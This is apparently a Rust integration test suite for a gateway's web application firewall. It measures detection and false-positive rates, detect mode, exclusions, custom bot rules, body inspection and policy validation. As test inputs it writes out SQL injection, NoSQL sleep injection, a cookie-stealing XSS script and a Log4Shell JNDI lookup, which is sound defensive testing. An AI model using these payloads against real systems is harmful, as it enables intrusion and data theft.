//! The WAF through a real gateway (issue 16): the engine's corpus
//! (gateway/waf/corpus: attacks per group, benign-but-tricky requests) sent as raw
//! HTTP/1.1 to a gateway whose route has every managed group on, printing detection
//! per group and the false-positive rate; then detect mode, route exclusions, custom
//! rules with labels and a custom deny, bodies pre-read and streamed, and a policy that
//! does not compile.
//!
//! CI sends every 4th corpus request; `WAF_CORPUS_FULL=1` sends all of them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

use backends_demo::{Backend, Gateway, GatewayConfig};
use serde_json::{json, Value};

/// Status of the answer and whether the backend wrote it (`x-backend-id`).
fn send(addr: SocketAddr, raw: &[u8]) -> (u16, bool, String) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let _ = s.write_all(raw);
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    // To the end of the answer: its Content-Length, or the connection's close.
    loop {
        if let Some(end) = out.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&out[..end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok());
            if length.is_some_and(|n| out.len() >= end + 4 + n) {
                break;
            }
        }
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
    let from_backend = text.to_ascii_lowercase().contains("\r\nx-backend-id:");
    (status, from_backend, text)
}

/// A corpus line as raw HTTP/1.1 (closing the connection after it).
fn raw_request(v: &Value) -> Vec<u8> {
    let method = v["method"].as_str().unwrap_or("GET");
    let target = v["target"].as_str().unwrap_or("/");
    let mut out = format!("{method} {target} HTTP/1.1\r\n").into_bytes();
    let mut has_host = false;
    if let Some(h) = v["headers"].as_object() {
        for (k, val) in h {
            let lk = k.to_ascii_lowercase();
            if lk == "content-length" || lk == "transfer-encoding" || lk == "connection" {
                continue;
            }
            has_host |= lk == "host";
            out.extend_from_slice(format!("{k}: {}\r\n", val.as_str().unwrap_or("")).as_bytes());
        }
    }
    if !has_host {
        out.extend_from_slice(b"Host: app.test\r\n");
    }
    let body = v["body"]
        .as_str()
        .map(|b| b.as_bytes().to_vec())
        .unwrap_or_default();
    if !body.is_empty() || v.get("body").is_some() {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"Connection: close\r\n\r\n");
    out.extend_from_slice(&body);
    out
}

fn corpus(dir: &str) -> Vec<(String, Value)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("waf/corpus")
        .join(dir);
    let mut out = Vec::new();
    let mut files: Vec<_> = std::fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for f in files {
        for line in std::fs::read_to_string(&f).unwrap().lines() {
            if let Ok(v) = serde_json::from_str::<Value>(line) {
                let group = v["group"].as_str().unwrap_or("benign").to_owned();
                out.push((group, v));
            }
        }
    }
    out
}

#[tokio::test]
async fn the_corpus_through_the_gateway() {
    let app = Backend::builder().id("app").spawn().await.unwrap();
    let gw = Gateway::start(
        &GatewayConfig::new()
            .set("waf.all", json!({}))
            .upstream("app", &[app.addr()])
            .route_with(
                "all",
                "app",
                json!({ "waf": "all", "retry": { "attempts": 1 } }),
            )
            .to_yaml(),
    )
    .await
    .unwrap();
    let step = if std::env::var_os("WAF_CORPUS_FULL").is_some() {
        1
    } else {
        4
    };

    let mut per_group: BTreeMap<String, (u32, u32)> = BTreeMap::new();
    let mut missed = Vec::new();
    for (group, v) in corpus("attacks").into_iter().step_by(step) {
        let (status, from_backend, _) = send(gw.listen, &raw_request(&v));
        let e = per_group.entry(group.clone()).or_default();
        e.0 += 1;
        if !from_backend && (400..500).contains(&status) {
            e.1 += 1;
        } else {
            missed.push(format!("{group}: {status} {}", v["target"]));
        }
    }
    let (mut benign, mut fp, mut fps) = (0u32, 0u32, Vec::new());
    for (_, v) in corpus("benign").into_iter().step_by(step) {
        benign += 1;
        let (status, from_backend, text) = send(gw.listen, &raw_request(&v));
        if !from_backend {
            fp += 1;
            let why = text
                .lines()
                .find(|l| l.starts_with("blocked"))
                .unwrap_or("")
                .to_owned();
            fps.push(format!("{status} {} {why}", v["target"]));
        }
    }
    let (total, caught) = per_group
        .values()
        .fold((0, 0), |(t, c), (n, k)| (t + n, c + k));
    println!("WAF through the gateway, every {step} corpus request:");
    for (g, (n, k)) in &per_group {
        println!(
            "  {g:<18} {k:>4}/{n:<4} {:5.1}%",
            100.0 * f64::from(*k) / f64::from(*n)
        );
    }
    let detection = f64::from(caught) / f64::from(total);
    let fp_rate = f64::from(fp) / f64::from(benign);
    println!(
        "  detection {:.1}% ({caught}/{total}), false positives {:.2}% ({fp}/{benign})",
        100.0 * detection,
        100.0 * fp_rate
    );
    println!("  missed: {missed:?}\n  false positives: {fps:?}");
    assert!(detection >= 0.95, "{missed:?}");
    assert!(fp_rate <= 0.01, "{fps:?}");
    // Blocks were counted by rule.
    let blocks = gw
        .metric(
            "gateway_waf_requests_total",
            &[("route", "all"), ("action", "block")],
        )
        .await
        .unwrap();
    assert!(blocks >= f64::from(caught) * 0.9, "{blocks}");
}

#[tokio::test]
async fn detect_mode_exclusions_custom_rules_labels_and_bodies() {
    let app = Backend::builder().id("app").spawn().await.unwrap();
    let gw = Gateway::start(
        &GatewayConfig::new()
            .set("waf.strict", json!({
                "rules": [
                    { "id": "tag-bots", "when": { "header": { "name": "user-agent", "contains": "bot", "ignore_case": true } }, "action": { "label": "bot" } },
                    { "id": "no-bots-on-admin", "when": { "all": [ { "label": { "equals": "bot" } }, { "path": { "prefix": "/admin" } } ] },
                      "action": { "deny": { "status": 451, "body": "no bots here\n", "headers": { "x-why": "bot" } } } },
                ],
            }))
            .set("waf.watch", json!({ "mode": "detect" }))
            .upstream("app", &[app.addr()])
            .route_with("detect", "app", json!({ "match": { "path_prefix": "/detect/" }, "waf": "watch" }))
            .route_with("search", "app", json!({
                "match": { "path_prefix": "/search" },
                "waf": { "policy": "strict", "exclusions": [ { "rules": ["sqli"], "arguments": ["query:q"] } ] },
            }))
            .route_with("all", "app", json!({ "waf": "strict" }))
            .to_yaml(),
    )
    .await
    .unwrap();
    let get = |target: &str, extra: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: app.test\r\n{extra}Connection: close\r\n\r\n")
            .into_bytes()
    };
    let sqli = "q=1%27%20OR%20%271%27%3D%271";

    // Blocked: 403 with the request id, never at the backend.
    let (status, backend, text) = send(
        gw.listen,
        &get(&format!("/x?{sqli}"), "X-Request-Id: waf-1\r\n"),
    );
    assert_eq!((status, backend), (403, false), "{text}");
    assert!(
        text.contains("reason: waf") && text.contains("request-id: waf-1"),
        "{text}"
    );
    // Detect mode: forwarded, counted as "detect".
    let (status, backend, _) = send(gw.listen, &get(&format!("/detect/x?{sqli}"), ""));
    assert_eq!((status, backend), (200, true));
    assert_eq!(
        gw.metric(
            "gateway_waf_requests_total",
            &[("route", "detect"), ("action", "detect")]
        )
        .await
        .unwrap(),
        1.0
    );
    // The route's exclusion: sqli off for query:q on /search only.
    let (status, backend, _) = send(gw.listen, &get(&format!("/search?{sqli}"), ""));
    assert_eq!((status, backend), (200, true));
    let other = sqli.replace("q=", "name=");
    let (status, _, _) = send(gw.listen, &get(&format!("/search?{other}"), ""));
    assert_eq!(status, 403, "only query:q is excluded");

    // Custom rules: a label set by one rule, used by the next; the custom deny.
    let (status, backend, text) = send(
        gw.listen,
        &get("/admin/panel", "User-Agent: FriendlyBot/1.0\r\n"),
    );
    assert_eq!((status, backend), (451, false), "{text}");
    assert!(
        text.contains("no bots here") && text.to_ascii_lowercase().contains("x-why: bot"),
        "{text}"
    );
    let (status, backend, _) = send(gw.listen, &get("/shop", "User-Agent: FriendlyBot/1.0\r\n"));
    assert_eq!((status, backend), (200, true), "labelled, not denied");

    // Bodies: a small JSON body is read before the backend is contacted; a chunked one
    // is inspected as it streams.
    let before = app.stats().await.unwrap().requests;
    let body = r#"{"user":{"name":"x","filter":{"$where":"sleep(5000)"}}}"#;
    let post = format!(
        "POST /api HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let (status, backend, text) = send(gw.listen, post.as_bytes());
    assert_eq!((status, backend), (403, false), "{text}");
    assert_eq!(
        app.stats().await.unwrap().requests,
        before,
        "the backend never saw it"
    );
    let form = "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
    let chunked = format!(
        "POST /comments HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{form}\r\n0\r\n\r\n",
        form.len()
    );
    let (status, backend, text) = send(gw.listen, chunked.as_bytes());
    assert_eq!((status, backend), (403, false), "{text}");
    let benign = "comment=I+love+this+shop%2C+5+stars";
    let chunked = format!(
        "POST /comments HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{benign}\r\n0\r\n\r\n",
        benign.len()
    );
    let (status, backend, _) = send(gw.listen, chunked.as_bytes());
    assert_eq!((status, backend), (200, true));
    assert!(
        gw.metric(
            "gateway_waf_rule_matches_total",
            &[("policy", "strict"), ("group", "xss")]
        )
        .await
        .unwrap()
            >= 1.0
    );
}

#[tokio::test]
async fn a_policy_that_does_not_compile_is_refused_with_its_field() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("g.yaml");
    let yaml = GatewayConfig::new()
        .set("waf.bad", json!({ "rules": [ { "id": "r", "when": { "path": { "regex": "(" } }, "action": "deny" } ] }))
        .upstream("app", &["127.0.0.1:9".parse().unwrap()])
        .route_with("all", "app", json!({ "waf": "missing" }))
        .to_yaml()
        .replace("${LISTEN}", "127.0.0.1:1")
        .replace("${ADMIN}", "127.0.0.1:2");
    std::fs::write(&file, yaml).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gateway"))
        .arg("validate")
        .arg(&file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("waf.bad.rules[0].when.path.regex"), "{err}");
    assert!(
        err.contains("WAF policy \"missing\" is not defined"),
        "{err}"
    );
    assert!(err.contains("g.yaml:"), "file and line: {err}");
}

#[test]
fn replay_shows_what_a_policy_would_block_false_positive_candidates_first() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("g.yaml");
    std::fs::write(
        &config,
        "listeners: [{ name: h, address: 127.0.0.1:1 }]\n\
         waf:\n  strict: {}\n  tuned: { exclusions: [{ rules: [sqli], arguments: [\"query:q\"] }] }\n\
         upstreams: { u: { endpoints: [{ address: 127.0.0.1:2 }] } }\n\
         routes: [{ name: search, upstream: u, waf: strict }]\n",
    )
    .unwrap();
    let recorded = dir.path().join("yesterday.jsonl");
    std::fs::write(
        &recorded,
        concat!(
            r#"{"method":"GET","target":"/search?q=1%27%20OR%20%271%27%3D%271","route":"search","status":404}"#, "\n",
            r#"{"method":"GET","target":"/search?q=O%27Brien%27s%20%27best%27%20or%20worst","route":"search","status":200}"#, "\n",
            r#"{"method":"GET","target":"/search?q=shoes","route":"search","status":200}"#, "\n",
            r#"{"method":"POST","target":"/api","headers":{"content-type":"application/json"},"body":"{\"a\":\"${jndi:ldap://x/a}\"}","route":"search","status":500}"#, "\n",
        ),
    )
    .unwrap();
    let replay = |policy: Option<&str>| {
        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_gateway"));
        c.args(["waf", "replay", "--config"]).arg(&config);
        if let Some(p) = policy {
            c.args(["--policy", p]);
        }
        let out = c.arg(&recorded).output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    // Each request's recorded route's policy.
    let out = replay(None);
    println!("{out}");
    assert!(out.starts_with("4 requests replayed, "), "{out}");
    assert!(out.contains("java.log4shell"), "{out}");
    // Trying the tuned policy on the same traffic: the sqli blocks on q are gone.
    let tuned = replay(Some("tuned"));
    assert!(!tuned.contains("sqli."), "{tuned}");
    assert!(tuned.contains("java.log4shell"), "{tuned}");
}
